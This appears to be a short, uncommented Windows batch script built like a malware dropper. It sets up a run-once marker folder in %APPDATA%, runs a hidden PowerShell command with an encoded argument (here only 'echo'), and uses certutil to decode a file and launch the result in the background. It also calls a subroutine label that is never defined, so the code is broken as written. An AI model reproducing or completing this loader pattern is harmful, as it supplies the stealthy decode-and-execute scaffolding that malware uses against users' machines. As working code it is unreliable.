@echo off
set X=%~dp0
if not exist "%APPDATA%\x" (mkdir "%APPDATA%\x") else goto :end
for /f "tokens=*" %%i in ('dir /b') do call :sub %%i
cmd /c "powershell -NoP -W hidden -enc ZQBjAGgAbwA="
certutil -decode a b & start /b b
:end
